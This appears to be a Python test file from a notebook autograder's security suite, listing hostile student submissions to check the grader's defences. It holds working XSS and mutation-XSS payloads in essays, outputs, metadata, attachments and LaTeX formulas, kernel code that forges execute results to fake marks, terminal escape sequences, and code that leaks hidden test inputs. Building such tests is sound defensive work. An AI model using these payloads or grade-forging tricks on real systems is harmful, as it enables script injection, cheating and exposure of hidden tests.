"""What people look at: forged results, active content in feedback, escape sequences, formulas."""

from __future__ import annotations

import nbformat
from nbformat import NotebookNode

from ..submission import Edit, Gain, Submission
from .notebooks import cell_of

SCRIPT = "<script>window.owned = '@NAME@'</script>"
ACTIVE = (
    "<script>window.owned = 1</script><img src=x onerror=window.owned=1>"
    '<svg onload=window.owned=1><a href="javascript:window.owned=1">x</a></svg>'
    "<iframe srcdoc='<script>window.owned=1</script>'></iframe><style>*{display:none}</style>"
    "<form action='http://127.0.0.1:1/owned'><input name=mark></form>"
)


# Markup that cleaners and browsers have been known to read in two ways.
ODD = (
    "<svg><style><img src=x onerror=window.owned=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=window.owned=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'>",
    "<a href='jav&#x09;ascript:window.owned=1' autofocus onfocus=window.owned=1>x</a>",
    "<details open ontoggle=window.owned=1><summary>x</summary></details>",
    "<video><source onerror=window.owned=1></video><input autofocus onfocus=window.owned=1>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:1/owned'><base href=http://127.0.0.1:1/owned>",
    "<object data=http://127.0.0.1:1/owned></object><embed src=http://127.0.0.1:1/owned>",
    "<div style='background:url(http://127.0.0.1:1/owned)'>x</div><b/onclick=window.owned=1>b",
    "<scr<script>ipt>window.owned=1</scr</script>ipt><!--><script>window.owned=1</script>-->",
    "<x contenteditable onblur=window.owned=1 id=x tabindex=1 onfocus=window.owned=1 style=display:block>x",
    "</pre></div></body><script>window.owned=1</script><textarea><plaintext>",
)


def essay(content: str) -> Edit:
    """Return what writes an essay."""

    def edit(notebook: NotebookNode) -> None:
        cell_of(notebook, "essay").source = content

    return edit


def attachment(notebook: NotebookNode) -> None:
    """Attach a picture that is a page."""
    cell = cell_of(notebook, "essay")
    cell.source = "![x](attachment:x.svg) ![y](attachment:y.png)"
    cell.attachments = {
        "x.svg": {"image/svg+xml": ACTIVE},
        "y.png": {"image/png": 'x" onerror="window.owned=1'},
    }


def widgets(notebook: NotebookNode) -> None:
    """Put a page into the state of widgets, and into the names of the notebook's metadata."""
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"a": {"x": f"</script>{ACTIVE}"}}}
    }
    notebook.metadata["title"] = f"</title>{ACTIVE}"
    notebook.metadata["language_info"] = {"name": f"python</style>{ACTIVE}", "pygments_lexer": "../x"}
    notebook.cells.append(nbformat.v4.new_raw_cell(ACTIVE, id="raw", metadata={"raw_mimetype": "text/html"}))


def spelling(notebook: NotebookNode) -> None:
    """Add cells that each show a letter of what was remembered if it is so, and have saved that."""
    for place in range(5):
        for letter in "0123456789":
            said = f"place {place}: {letter}"
            code = (
                f"found = str(max(max(values) for values in seen))[{place}] == {letter!r}\n"
                f'print("place", "{place}:", {letter!r}) if found else None'
            )
            cell = nbformat.v4.new_code_cell(code, id=f"spell-{place}-{letter}")
            cell.outputs = [nbformat.v4.new_output("stream", text=f"{said}\n")]
            notebook.cells.append(cell)


ATTACKS = [
    Submission(
        "result-during-test",
        "The function sends a result of one point while the test that calls it runs.",
        Gain.MARKS,
        answers={
            "words": """
def words(text):
    kernel = get_ipython().kernel
    kernel.session.send(
        kernel.iopub_socket, "execute_result",
        {"data": {"text/plain": "1"}, "metadata": {}, "execution_count": 1},
        parent=kernel.get_parent(), ident=b"execute_result",
    )
    return 0
""",
            "mean": """
def mean(values):
    words("")
    return 0
""",
        },
    ),
    Submission(
        "result-from-thread",
        "A thread sends results and clears outputs all the time, for whichever cell is running.",
        Gain.MARKS,
        """
import threading
import time

kernel = get_ipython().kernel

def send():
    for _ in range(2000):
        parent = kernel.get_parent()
        for kind, content in (
            ("clear_output", {"wait": False}),
            ("execute_result", {"data": {"text/plain": "1"}, "metadata": {}, "execution_count": 1}),
            ("status", {"execution_state": "idle"}),
        ):
            kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
        time.sleep(0.005)

threading.Thread(target=send, daemon=True).start()
""",
    ),
    Submission(
        "reply-before-its-time",
        "Replies to the cells to come are sent beforehand, with results in them.",
        Gain.MARKS,
        """
kernel = get_ipython().kernel
parent = kernel.get_parent()
for number in range(1, 200):
    kernel.session.send(
        kernel.shell_stream, "execute_reply",
        {"status": "ok", "execution_count": number, "user_expressions": {}, "payload": []},
        parent=parent, ident=kernel._parent_ident["shell"],
    )
""",
    ),
    Submission(
        "page-in-output",
        "Outputs are pages with scripts: as HTML, as a picture, as JavaScript, as Markdown, as LaTeX.",
        Gain.PAGE,
        answers={
            "mean": f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

active = {ACTIVE!r}
display(HTML(active), Javascript("window.owned = 1"), Markdown(active), Latex(active))
display({{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'>" + active + "</svg>"}}, raw=True)
display({{"image/png": 'x" onerror="window.owned=1'}}, raw=True)
display({{"text/html": active, "application/vnd.jupyter.widget-view+json": {{"model_id": active}}}}, raw=True)
print(active)
""",
        },
    ),
    Submission(
        "page-in-error",
        "The name and the message of an error are a page with a script.",
        Gain.PAGE,
        answers={
            "mean": f"""
def mean(values):
    raise type({ACTIVE!r}, (Exception,), {{}})({ACTIVE!r})
""",
            "largest": f"""
largest = type({ACTIVE!r}, (int,), {{"__repr__": lambda self: {ACTIVE!r}}})(3)
raise ValueError({ACTIVE!r})
""",
        },
    ),
    Submission(
        "page-in-essay",
        "The essay is a page with scripts, forms and styles.",
        Gain.PAGE,
        edit=essay(
            f"An essay.\n\n{ACTIVE}\n\n[x](javascript:window.owned=1) <b onclick=window.owned=1>b</b>"
        ),
    ),
    Submission(
        "page-in-odd-markup",
        "The essay and the outputs hold markup that cleaners and browsers read in two ways.",
        Gain.PAGE,
        answers={
            "mean": f"""
from IPython.display import HTML, Markdown, display

for piece in {ODD!r}:
    display(HTML(piece), Markdown(piece))
    print(piece)
"""
        },
        edit=essay("\n\n".join((*ODD, "[x](data:text/html,<script>window.owned=1</script>)"))),
    ),
    Submission("page-in-attachment", "A picture in the essay is a page.", Gain.PAGE, edit=attachment),
    Submission(
        "page-in-metadata",
        "The metadata, a raw cell and the state of widgets hold a page.",
        Gain.PAGE,
        edit=widgets,
    ),
    Submission(
        "page-in-formula",
        "Formulas in the essay hold links, pages, and a macro that doubles itself.",
        Gain.PAGE,
        edit=essay(
            r"$\href{javascript:window.owned=1}{x}$ $\text{<img src=x onerror=window.owned=1>}$ "
            r"$\newcommand{\a}{\a\a}\a$ $$\require{html}\style{background:url(http://127.0.0.1:1/owned)}{x}$$"
        ),
    ),
    Submission(
        "picture-from-elsewhere",
        "The essay shows pictures of another host, which learns who opens the page and when.",
        Gain.PAGE,
        edit=essay(
            "![x](http://127.0.0.1:1/owned.png) <img src='//127.0.0.1:1/owned.png'>"
            "<link rel=stylesheet href=http://127.0.0.1:1/owned.css>"
        ),
    ),
    Submission(
        "escape-sequences",
        "Outputs, errors and warnings hold commands for the lecturer's terminal.",
        Gain.PAGE,
        """
import sys
import warnings

print("\\x1b]0;owned-@NAME@\\x07\\x1b[2J")
print("\\x1b]0;owned-@NAME@\\x07\\x1b[2J", file=sys.stderr)
sys.__stderr__.write("\\x1b]0;owned-@NAME@\\x07\\x1b[2J\\n")
sys.__stdout__.write("\\x1b]0;owned-@NAME@\\x07\\x1b[2J\\n")
import os
for number in (1, 2):
    try:
        os.write(number, b"\\x1b]0;owned-@NAME@\\x07\\x1b[2J\\n")
    except OSError:
        pass
warnings.warn("\\x1b]0;owned-@NAME@\\x07")
raise ValueError("\\x1b]0;owned-@NAME@\\x07")
""",
    ),
    Submission(
        "remembers-hidden-inputs",
        "The function keeps what tests call it with, and a later answer prints it.",
        Gain.HIDDEN,
        answers={
            "mean": """
seen = []

def mean(values):
    seen.append(values)
    return sum(values) / len(values)
""",
            "purse": "print([2 * value for values in seen for value in values])",
        },
        earned=2,
    ),
    Submission(
        "spells-hidden-inputs",
        "Many cells each show one letter of an input if it is right, and have that saved as their output.",
        Gain.HIDDEN,
        answers={
            "mean": """
seen = []

def mean(values):
    seen.append(values)
    return sum(values) / len(values)
"""
        },
        edit=spelling,
        earned=2,
    ),
    Submission(
        "prints-hidden-inputs",
        "The function prints what tests call it with, and raises it as an error.",
        Gain.HIDDEN,
        answers={
            "mean": """
def mean(values):
    print([2 * value for value in values])
    if values[0] > 1000:
        raise ValueError(str(2 * values[0]))
    return sum(values) / len(values)
"""
        },
    ),
]
